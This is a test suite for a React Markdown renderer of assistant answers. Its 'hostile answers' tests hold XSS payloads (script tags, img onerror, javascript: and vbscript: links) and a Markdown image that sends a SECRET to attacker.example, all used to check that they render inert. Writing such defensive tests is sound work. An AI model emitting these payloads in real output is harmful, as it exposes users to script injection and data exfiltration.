// Answers as Markdown: the elements they become, what hostile answers become (text, never HTML, no
// image, no live link but http(s)/mailto), the plain-text fallback, streaming, and block identity.
import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MAX_MARKDOWN_CHARS, Markdown, parseMarkdown, PLAIN_SHOWN_CHARS, streamingView } from '../../../../src-renderer/ui/Markdown';

const html = (source: string, streaming = false) => renderToStaticMarkup(<Markdown source={source} streaming={streaming} />);
/** Every href in the markup. */
const hrefs = (markup: string) => [...markup.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!);

describe('Markdown: the right element for each construct', () => {
  it('renders paragraphs, emphasis, code, lists, links, quotes, headings and tables', () => {
    const out = html(
      [
        '# Plan',
        '',
        'Move **Birthday** tasks, *soon*, with `move_task` and ~~not~~ [the docs](https://example.org/docs).',
        'A second line.',
        '',
        '1. first',
        '2. second',
        '',
        '- one',
        '- two',
        '  - nested',
        '',
        '> a quote',
        '',
        '| Task | Project |',
        '|:-----|--------:|',
        '| Cake | Birthday |',
        '',
        '```ts',
        'const x = 1;',
        '```',
      ].join('\n'),
    );
    expect(out).toContain('<h3>Plan</h3>');
    expect(out).toContain('<strong>Birthday</strong>');
    expect(out).toContain('<em>soon</em>');
    expect(out).toContain('<code>move_task</code>');
    expect(out).toContain('<s>not</s>');
    expect(out).toContain('<a class="md-link" href="https://example.org/docs" target="_blank" rel="noopener noreferrer" title="https://example.org/docs">the docs</a>');
    expect(out).toContain('A second line.'); // after a <br/>: a line break in an answer is one
    expect(out).toMatch(/<br\/>A second line/);
    expect(out).toContain('<ol><li>first</li><li>second</li></ol>');
    expect(out).toContain('<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>');
    expect(out).toContain('<blockquote><p>a quote</p></blockquote>');
    expect(out).toContain('<th style="text-align:left">Task</th><th style="text-align:right">Project</th>');
    expect(out).toContain('<td style="text-align:left">Cake</td>');
    expect(out).toContain('<div class="md-code" role="group" aria-label="Code, ts">');
    expect(out).toContain('<pre tabindex="0"><code>const x = 1;</code></pre>');
    expect(out).toContain('aria-label="Copy code"');
  });

  it('keeps headings below the page’s own, and an ordered list’s start', () => {
    expect(html('# a\n\n## b\n\n###### f')).toBe('<div class="md"><h3>a</h3><h4>b</h4><h6>f</h6></div>');
    expect(html('3. three\n4. four')).toContain('<ol start="3">');
  });

  it('makes bare web and mail addresses links, but not other words with dots', () => {
    const out = html('See https://example.org/x, write to me@example.org; node.js and //evil.example stay words.');
    expect(hrefs(out)).toEqual(['https://example.org/x', 'mailto:me@example.org']);
  });
});

describe('Markdown: hostile answers render inert', () => {
  it('shows raw HTML as text, never as elements', () => {
    const out = html('<img src="http://127.0.0.1/x?d=secret" onerror="alert(1)"> <script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">click</a>');
    expect(out).not.toMatch(/<(img|script|iframe)\b/);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('&lt;a href=&quot;javascript:alert(1)&quot;&gt;click&lt;/a&gt;');
    // The addresses inside stay visible; the web ones may be followed by a deliberate click, nothing loads them.
    expect(hrefs(out)).toEqual(['http://127.0.0.1/x?d=secret', 'https://evil.example/']);
    expect(out).toContain('&lt;img src=&quot;');
    expect(out).toContain('&quot; onerror=&quot;alert(1)&quot;&gt;');
  });

  it('turns an image into a link that shows its address, and never an <img>', () => {
    const out = html('![x](http://attacker.example/?d=SECRET) ![](data:image/png;base64,AAAA) ![y](/local.png)');
    expect(out).not.toContain('<img');
    expect(out).toContain('Image “x”, not loaded: <a class="md-link" href="http://attacker.example/?d=SECRET" target="_blank" rel="noopener noreferrer" title="http://attacker.example/?d=SECRET">http://attacker.example/?d=SECRET</a>');
    // Not http(s): the address is only text.
    expect(out).toContain('Image, not loaded: <span class="md-inert"');
    expect(hrefs(out)).toEqual(['http://attacker.example/?d=SECRET']);
  });

  it('makes only http, https and mailto links live; the rest is shown as text', () => {
    const out = html(
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](vbscript:x) [e](/relative) [f](//evil.example/) ' +
        '[g](https://bank.example@evil.example/) <javascript:alert(1)> [h](JaVaScRiPt:alert(1)) [i](java&#x09;script:alert(1)) [ok](mailto:me@example.org)',
    );
    expect(hrefs(out)).toEqual(['mailto:me@example.org']);
    expect(out).toContain('e<span class="md-url"> (/relative)</span>');
    expect(out).toContain('f<span class="md-url"> (//evil.example/)</span>');
  });

  it('never emits an element, attribute or link outside the allowed set, for any input', () => {
    const piece = fc.constantFrom('<', '>', '"', "'", '`', '```', '\n', '\n\n', ' ', '*', '_', '[', ']', '(', ')', '!', '|', '-', '#', '>', ':', '&', ';', 'javascript', 'data', 'http', '//', 'img', 'script', 'src=', 'onerror=', 'a', 'x', '1.', '    ', '\\', '~',
      '[x](', '![x](', '<', 'javascript:alert(1)', 'JAVASCRIPT:', 'data:text/html,x', '//evil.example', '/relative', 'https://ok.example/p', 'mailto:a@b.c', 'https://u@evil.example', 'vbscript:x', 'file:///etc/passwd', '\t');
    const tags = ['div', 'p', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 's', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'span', 'br', 'hr', 'button'];
    const attributes = ['class', 'href', 'target', 'rel', 'title', 'style', 'role', 'aria-label', 'aria-live', 'tabindex', 'type', 'start'];
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }).map((xs) => xs.join('')), (source) => {
        const out = html(source);
        // React escapes text and attribute values, so every real tag is `<name attr="value"…>`.
        const found = [...out.matchAll(/<([a-z0-9]+)((?:\s[a-z-]+="[^"]*")*)\s*\/?>/g)];
        expect(found.length).toBe(out.match(/<[a-z]/g)?.length ?? 0);
        for (const [, tag, attrs] of found) {
          expect(tags).toContain(tag);
          for (const [, name, value] of attrs!.matchAll(/\s([a-z-]+)="([^"]*)"/g)) {
            expect(attributes).toContain(name);
            if (name === 'style') expect(value).toMatch(/^text-align:(left|center|right)$/);
            if (name === 'href') expect(value).toMatch(/^(https?:\/\/[^/@]+|mailto:)/);
          }
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('shows a huge answer as plain text at once, its start until asked for all', () => {
    const huge = `**big** ${'word '.repeat(210_000)}THE END`;
    const t0 = performance.now();
    const out = html(huge);
    expect(performance.now() - t0).toBeLessThan(5000);
    expect(out).toContain('too long to format');
    expect(out).toContain('**big**');
    expect(out).not.toContain('<strong>');
    expect(out).not.toContain('THE END');
    expect(out).toContain(`>Show all ${huge.length.toLocaleString()} characters</button>`);
    expect(out.length).toBeLessThan(PLAIN_SHOWN_CHARS + 1000);
    expect(parseMarkdown('x'.repeat(MAX_MARKDOWN_CHARS)).kind).toBe('markdown');
    expect(parseMarkdown('x'.repeat(MAX_MARKDOWN_CHARS + 1)).kind).toBe('plain');
  });

  it('shows 10,000 nested lists or quotes as plain text, losing nothing', () => {
    for (const marker of ['- ', '> ', '1. ', '* > ']) {
      const deep = `${marker.repeat(10_000)}the bottom`;
      const out = html(deep);
      expect(out, marker).toContain('nested too deeply to format');
      expect(out, marker).toContain('the bottom');
      expect(out.match(/<(ul|ol|blockquote)/g) ?? [], marker).toHaveLength(0);
    }
    // Nesting well inside the limit is formatted.
    expect(html(`${'- '.repeat(8)}eight`).match(/<ul>/g)).toHaveLength(8);
  });

  it('shows deeply nested inline markup as text too', () => {
    const out = html(`${'*'.repeat(5000)}x${'*'.repeat(5000)} ${'['.repeat(5000)}y${']'.repeat(5000)}(https://example.org)`);
    expect(out).toContain('x');
    expect(hrefs(out).length).toBeLessThanOrEqual(1);
  });
});

describe('Markdown while the answer streams', () => {
  it('renders an unclosed code fence as a code block', () => {
    expect(html('Here:\n\n```py\nprint(1)\n', true)).toContain('<pre tabindex="0"><code>print(1)</code></pre>');
  });

  it('holds back a table head until its delimiter row is complete', () => {
    const before = 'Your tasks:\n\n';
    expect(streamingView(`${before}| Task | Pro`)).toBe(`${before.slice(0, -1)}`);
    expect(streamingView(`${before}| Task | Project |\n`)).toBe(before.slice(0, -1));
    expect(streamingView(`${before}| Task | Project |\n|---|--`)).toBe(before.slice(0, -1));
    expect(streamingView(`${before}| Task | Project |\n|---|---|\n`)).toBe(`${before}| Task | Project |\n|---|---|\n`);
    // Once it is a table, rows show as they arrive.
    const rows = `${before}| Task | Project |\n|---|---|\n| Cake | Bir`;
    expect(streamingView(rows)).toBe(rows);
    expect(html(rows, true)).toContain('<td>Bir</td>');
    // Not a table: text with pipes shows once a later line shows it is not one.
    expect(streamingView('|x| is the absolute value\nof x')).toBe('|x| is the absolute value\nof x');
    expect(streamingView('no table here')).toBe('no table here');
    // When the answer is done, all of it shows.
    expect(html(`${before}| Task |`)).toContain('| Task |');
    expect(html(`${before}| Task |`, true)).not.toContain('| Task |');
  });

  it('keeps earlier blocks’ ids as text is appended, so only the last block re-renders', () => {
    const a = parseMarkdown('# Title\n\nFirst paragraph.\n\n- one\n- tw');
    const b = parseMarkdown('# Title\n\nFirst paragraph.\n\n- one\n- two\n- thr');
    if (a.kind !== 'markdown' || b.kind !== 'markdown') throw new Error('expected Markdown');
    expect(b.blocks.map((x) => x.id).slice(0, 2)).toEqual(a.blocks.map((x) => x.id).slice(0, 2));
    expect(b.blocks[2]!.id).not.toBe(a.blocks[2]!.id);
    // A link reference defined later changes the earlier block it resolves in.
    const c = parseMarkdown('See [docs].\n\nMore.');
    const d = parseMarkdown('See [docs].\n\nMore.\n\n[docs]: https://example.org');
    if (c.kind !== 'markdown' || d.kind !== 'markdown') throw new Error('expected Markdown');
    expect(d.blocks[0]!.id).not.toBe(c.blocks[0]!.id);
    expect(html('See [docs].\n\n[docs]: https://example.org')).toContain('href="https://example.org/"');
  });

  it('parses a streamed answer piece by piece into exactly what parsing it whole gives, at every step', () => {
    // Lines that open, continue, interrupt or close blocks, cut anywhere: a heading that becomes a paragraph
    // line (`#` then `#x`), setext underlines, fences, tables, lazy list continuations, references.
    const piece = fc.constantFrom('#', '# Head', '#x', '- ', '* ', '1. ', '2) ', 'item', '* * *', '---', '===', '```', '~~~', '```ts', '| a | b |', '|---|---|', '| 1 | 2 |', '> ', 'quote',
      'text', '**bold**', '*', '`', '[x]', '[x]: https://example.org', '    code', '  ', '\n', '\n', '\n\n', '\n\n', ' ', '\\', '<div>', 'https://example.org/p');
    type Tok = { type: string; tag: string; content: string; hidden: boolean; attrs: unknown; children: Tok[] | null };
    const shape = (t: Tok): unknown => [t.type, t.tag, t.content, t.hidden, t.attrs, t.children?.map(shape)];
    const blocksOf = (p: ReturnType<typeof parseMarkdown>) => (p.kind === 'plain' ? p.reason : p.blocks.map((b) => [b.id, b.start, b.size, b.tokens.map((t) => shape(t as Tok))]));
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 80 }).map((xs) => xs.join('')), fc.array(fc.integer({ min: 1, max: 4 }), { minLength: 1, maxLength: 40 }), (answer, steps) => {
        let earlier: Parameters<typeof parseMarkdown>[1];
        let at = 0;
        for (let i = 0; at < answer.length; i++) {
          at = Math.min(answer.length, at + steps[i % steps.length]!);
          const view = streamingView(answer.slice(0, at));
          const streamed = parseMarkdown(view, earlier);
          earlier = { source: view, parsed: streamed };
          expect(blocksOf(streamed)).toEqual(blocksOf(parseMarkdown(view)));
        }
      }),
      // The first: a line that starts a heading (`#`) and then, completed, continues the paragraph above.
      { numRuns: 1000, examples: [['p\n\nabc\n#x', [1]]] },
    );
  });

  it('while streaming, keeps the settled blocks as they are and parses only the text from the last ones', () => {
    const start = '# Plan\n\nFirst.\n\n- one\n- two\n\nSecond paragraph';
    const a = parseMarkdown(start, undefined);
    const b = parseMarkdown(`${start} goes on.\n\n| x |`, { source: start, parsed: a });
    if (a.kind !== 'markdown' || b.kind !== 'markdown') throw new Error('expected Markdown');
    // The heading and the paragraph are the very same objects: nothing before the last two blocks was parsed again.
    expect(b.blocks[0]).toBe(a.blocks[0]);
    expect(b.blocks[1]).toBe(a.blocks[1]);
    expect(b.blocks[3]!.id).toContain('Second paragraph goes on.');
    // A reference definition anywhere: parsed whole, since it changes links before it.
    const refs = `${start}\n\n[x]: https://example.org\n\nSee [x]`;
    const c = parseMarkdown(refs, undefined);
    const d = parseMarkdown(`${refs} again`, { source: refs, parsed: c });
    if (d.kind !== 'markdown') throw new Error('expected Markdown');
    expect(d.blocks[0]).not.toBe((c as { blocks: unknown[] }).blocks[0]);
  });
});
